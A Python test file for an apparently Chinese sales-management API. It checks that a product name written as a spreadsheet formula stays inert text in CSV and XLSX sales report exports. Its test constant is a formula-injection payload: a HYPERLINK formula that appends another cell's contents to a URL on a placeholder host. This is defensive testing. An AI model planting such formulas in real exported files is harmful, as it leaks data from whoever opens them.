"""A name written as a spreadsheet formula stays text in every exported report: whoever
opens the file runs nothing and sends nothing anywhere.
"""

from __future__ import annotations

import csv
import io
import random

from openpyxl import load_workbook

from tests.support.approvals import StepApprovers
from tests.support.client import Client, unique
from tests.support.world import World

FORMULA_NAME = '=HYPERLINK("http://x/?d="&C2,"详情")'


def _protected_customer(world: World, sales: Client) -> dict:
    approvers = StepApprovers(world)  # before the filing: later accounts decide none of it
    body = {
        "name": f"导出测试{unique()}有限公司",
        "contact_name": "王先生",
        "phone": f"139{random.randint(0, 99_999_999):08d}",
        "region_code": "330106",
    }
    response = sales.post("/api/v1/customers", body)
    assert response.status_code == 201, response.text
    customer = response.json()
    approvers.approve_all(f"/api/v1/filings/{customer['filing']['id']}")
    customer = sales.get(f"/api/v1/customers/{customer['id']}").json()
    assert customer["status"] == "protected", customer
    return customer


def test_a_product_named_as_a_formula_is_text_in_the_sales_report_files(
    world: World,
) -> None:
    sales_ops = world.login(world.user(None, ["sales_ops"]))
    product = sales_ops.post(
        "/api/v1/products",
        {"sku": unique("SKU-"), "name": FORMULA_NAME, "unit": "套", "list_price": "1000.00"},
    )
    assert product.status_code == 201, product.text
    partner = world.partner(["330100"])
    sales = world.partner_user(partner["id"])
    admin = world.partner_user(partner["id"], "partner_admin")
    customer = _protected_customer(world, sales)
    order = sales.post(
        "/api/v1/orders",
        {
            "customer_id": customer["id"],
            "contract_no": unique("HT-"),
            "lines": [{"product_id": product.json()["id"], "quantity": 1, "unit_price": "1000.00"}],
        },
    )
    assert order.status_code == 201, order.text
    submitted = sales.post(f"/api/v1/orders/{order.json()['id']}/submit")
    assert submitted.status_code == 200, submitted.text
    params = {"group_by": "product"}

    as_csv = admin.get("/api/v1/reports/sales", params=params | {"format": "csv"})
    assert as_csv.status_code == 200, as_csv.text
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    names = [row[rows[0].index("产品名称")] for row in rows[1:-1]]
    assert names == ["'" + FORMULA_NAME]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    as_xlsx = admin.get("/api/v1/reports/sales", params=params | {"format": "xlsx"})
    assert as_xlsx.status_code == 200, as_xlsx.text
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("产品名称") + 1)
    assert (cell.data_type, cell.value) == ("s", FORMULA_NAME)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    amount = sheet.cell(row=2, column=header.index("金额（元）") + 1)
    assert (amount.data_type, amount.value) == ("n", 1000)
